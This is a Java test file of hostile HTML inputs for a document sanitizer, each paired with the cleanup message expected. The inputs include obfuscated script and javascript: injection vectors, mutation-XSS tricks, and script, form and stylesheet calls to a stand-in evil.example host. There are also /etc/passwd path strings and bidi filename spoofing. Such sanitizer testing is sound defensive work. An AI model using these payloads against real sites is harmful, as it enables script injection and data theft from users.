package press.broadside.hostile;

import static press.broadside.hostile.HostileCase.PLANTED;
import static press.broadside.hostile.HostileCase.cleaned;
import static press.broadside.hostile.HostileCase.exact;
import static press.broadside.hostile.HostileCase.refused;
import static press.broadside.hostile.HtmlStructure.page;

import java.util.List;

/** HTML that wants to run, load, hide or pretend. */
final class HtmlCode {
    private static final String LINK =
            "removed: %d links or addresses that are not http, https, mailto, tel or a fragment";
    static final String TAKEN = "removed: 1 picture (its alternative text was kept)";
    static final String NO_PICTURE =
            "the picture in the document is not shown: by its content it is neither JPEG nor PNG,"
                    + " GIF or WebP; export it as one of these";
    private static final String ELSEWHERE = "the picture %s is not shown: it lies elsewhere, and nothing is fetched;"
            + " send it along in one folder with the document";

    private HtmlCode() {}

    static List<HostileCase> cases() {
        return List.of(
                cleaned("code-script.html", page("<p>Script</p><script>" + PLANTED + "</script>"), "removed: 1 script"),
                cleaned(
                        "code-script-in-head.html",
                        "<html><head><script src=//evil.example/" + PLANTED + "></script><title>x</title></head>"
                                + "<body><p>Head</p></body></html>",
                        "removed: 1 script"),
                cleaned(
                        "code-script-split.html",
                        page("<p>Split</p><scr<script>kept</script>ipt>"),
                        "removed: 1 element of another kind (its text was kept)"),
                cleaned(
                        "code-script-null-case.html",
                        page("<p>Case</p><ScRiPt >" + PLANTED + "</sCrIpT >"),
                        "removed: 1 script"),
                cleaned(
                        "code-script-unclosed.html",
                        page("<p>Unclosed script</p><script>" + PLANTED),
                        "removed: 1 script"),
                cleaned(
                        "code-handlers.html",
                        page("""
                        <p onclick="%1$s()" ONMOUSEOVER='%1$s' onfocus=%1$s>Handlers</p>
                        <img src="https://a.example/x.png" alt="A" onerror="%1$s">
                        """.formatted(PLANTED)),
                        "removed: 3 event handlers",
                        TAKEN,
                        ELSEWHERE.formatted("https://a.example/x.png")),
                cleaned(
                        "code-handler-newline.html",
                        page("<p\nonclick\n=\n\"" + PLANTED + "\">Newlines</p>"),
                        "removed: 1 event handler"),
                cleaned(
                        "code-handler-slash.html",
                        page("<p/onclick=" + PLANTED + ">Slash</p>"),
                        "removed: 1 event handler"),
                cleaned("code-javascript-links.html", page("""
                        <p><a href="javascript:%1$s">one</a> <a href="JaVaScRiPt:%1$s">two</a>
                        <a href=" &#1; javascript:%1$s">three</a> <a href="java&#10;script:%1$s">four</a>
                        <a href="javascript&colon;%1$s">five</a> <a href="&#106;avascript:%1$s">six</a></p>
                        """.formatted(PLANTED)), LINK.formatted(6)),
                cleaned("code-vbscript-data.html", page("""
                        <p><a href="vbscript:%1$s">one</a> <a href="data:text/html,%1$s">two</a>
                        <img src="data:image/svg+xml,%1$s" alt="three"> <a href="blob:%1$s">four</a></p>
                        """.formatted(PLANTED)), LINK.formatted(3), TAKEN, NO_PICTURE),
                cleaned("code-file-links.html", page("""
                        <p><a href="file:///etc/%1$s">one</a> <a href="ftp://a.example/%1$s">two</a>
                        <a href="//evil.example/%1$s">three</a> <a href="intent:%1$s">four</a></p>
                        """.formatted(PLANTED)), LINK.formatted(4)),
                cleaned(
                        "code-svg.html",
                        page("<p>Drawing</p><svg onload=" + PLANTED + "><script>" + PLANTED + "</script></svg>"),
                        "removed: 1 SVG drawing"),
                cleaned(
                        "code-svg-foreign.html",
                        page("<p>Foreign</p><svg><foreignObject><p>" + PLANTED + "</p></foreignObject></svg>"),
                        "removed: 1 SVG drawing"),
                cleaned(
                        "code-math.html",
                        page("<p>Formula <math><mi xlink:href='javascript:" + PLANTED + "'>x</mi></math></p>"),
                        "removed: 1 MathML formula"),
                cleaned(
                        "code-mutation-mglyph.html",
                        page(
                                "<p>Mutation</p><math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror="
                                        + PLANTED + "&gt;\">"),
                        "removed: 1 MathML formula"),
                cleaned(
                        "code-mutation-noscript.html",
                        page("<p>Mutation</p><noscript><p title=\"</noscript><img src=x onerror=" + PLANTED
                                + ">\"></noscript>"),
                        "removed: 1 template or noscript element"),
                cleaned(
                        "code-template.html",
                        page("<p>Template</p><template><script>" + PLANTED + "</script></template>"),
                        "removed: 1 template or noscript element"),
                cleaned(
                        "code-style.html",
                        page("<style>@import '//evil.example/" + PLANTED
                                + "'</style><p style='background:url(//evil.example/" + PLANTED + ")'>Styled</p>"),
                        "removed: 2 styles"),
                cleaned(
                        "code-refresh.html",
                        "<html><head><meta http-equiv=refresh content='0;url=javascript:" + PLANTED
                                + "'><title>R</title></head><body><p>Refresh</p></body></html>",
                        "removed: 1 refresh, base or link element of the head"),
                cleaned(
                        "code-base-link.html",
                        "<html><head><base href='https://evil.example/" + PLANTED
                                + "'><link rel=stylesheet href='https://evil.example/" + PLANTED
                                + "'><title>B</title></head><body><p>Base</p></body></html>",
                        "removed: 2 refresh, base or link elements of the head"),
                cleaned(
                        "code-frames.html",
                        page("<p>Frames</p><iframe src='https://evil.example/" + PLANTED + "'></iframe><iframe srcdoc='"
                                + PLANTED + "'></iframe>"),
                        "removed: 2 frames"),
                cleaned(
                        "code-objects.html",
                        page("<p>Objects</p><object data='" + PLANTED + "'></object><embed src='" + PLANTED
                                + "'><audio src='" + PLANTED + "'></audio>"),
                        "removed: 3 embedded objects"),
                cleaned(
                        "code-form.html",
                        page("<form action='https://evil.example/" + PLANTED + "'><p>Form</p><input name=" + PLANTED
                                + "><button formaction='javascript:" + PLANTED + "'>" + PLANTED + "</button></form>"),
                        "removed: 3 forms or form controls"),
                cleaned(
                        "code-ping-download.html",
                        page("<p><a href='https://a.example/' ping='https://evil.example/" + PLANTED + "' download='"
                                + PLANTED + "'>Ping</a></p>"),
                        "removed: 2 attributes of another kind"),
                cleaned(
                        "code-srcset.html",
                        page(
                                "<p>Set <img alt='A' src='https://a.example/1.png' srcset='https://a.example/1.png 1x, javascript:"
                                        + PLANTED + " 2x'></p>"),
                        TAKEN,
                        ELSEWHERE.formatted("https://a.example/1.png")),
                cleaned(
                        "code-xlink-action.html",
                        page("<p xlink:href='javascript:" + PLANTED + "' background='data:" + PLANTED + "'>Odd</p>"),
                        LINK.formatted(2)),
                cleaned(
                        "code-dom-clobbering.html",
                        page("<p data-x='" + PLANTED + "' is=x slot=y>Attributes</p>"),
                        "removed: 3 attributes of another kind"),
                cleaned(
                        "code-custom-element.html",
                        page("<x-evil onclick=" + PLANTED + "><p>Custom</p></x-evil>"),
                        "removed: 1 element of another kind (its text was kept)"),
                cleaned(
                        "code-plaintext.html",
                        page("<p>Plain</p><plaintext><b>kept as text</b>"),
                        "removed: 1 element of another kind (its text was kept)"),
                cleaned(
                        "code-meta-claims.html",
                        "<html><head><meta name='broadside:approved' content='" + PLANTED
                                + "'><meta name='status' content='" + PLANTED
                                + "'><title>C</title></head><body><p>Claims</p></body></html>",
                        "ignored: 'broadside:approved', which a document cannot decide about itself",
                        "ignored: 'status', which a document cannot decide about itself"),
                exact(
                        "code-template-marks.html",
                        page("<p>Marks ${7*7} #{7*7} {{7*7}} [[${7*7}]] &lt;%= 7 %&gt; th:text stay</p>")),
                exact(
                        "code-okapi-marks.html",
                        page("<p>Marks \uE101\uE110 \uE102\uE111 \uE103\uE112 [#$dp1] stay</p>")),
                exact("code-our-codes.html", page("<p>Codes {1}{/1}{2/} \\{1} {99/} stay as <b>typed</b></p>")),
                exact(
                        "code-bidi.html",
                        page("<p>Overrides \u202Etxt.exe\u202C and \u2066isolates\u2069 and \u200Fmarks</p>")),
                exact(
                        "code-zero-width.html",
                        page("<p>Zero" + "\u200B\u200C\u200D\u2060".repeat(20_000) + "width</p>")),
                exact("code-combining.html", page("<p>Za" + "\u0300\u0301".repeat(50_000) + "lgo</p>")),
                exact("code-tag-characters.html", page("<p>Tags \uDB40\uDC41\uDB40\uDC42 and \uFE0F selectors</p>")),
                exact("code-escaped-script.html", page("<p>&lt;script&gt;alert(1)&lt;/script&gt; stays text</p>")),
                exact(
                        "code-textarea-in-title.html",
                        "<html><head><title></textarea><b>Title</b></title></head><body><p>Titled</p></body></html>"),
                cleaned(
                        "code-long-title.html",
                        page("<h1>" + "Long ".repeat(2_000) + "</h1><p>Title</p>"),
                        "ignored: 'heading' of more than 500 characters"),
                exact("code-title-as-a-path.html", page("<h1>../../../../etc/passwd</h1><p>Path</p>")),
                refused("code-only-script.html", "<script>" + PLANTED + "</script>", "there is no text to translate"));
    }
}
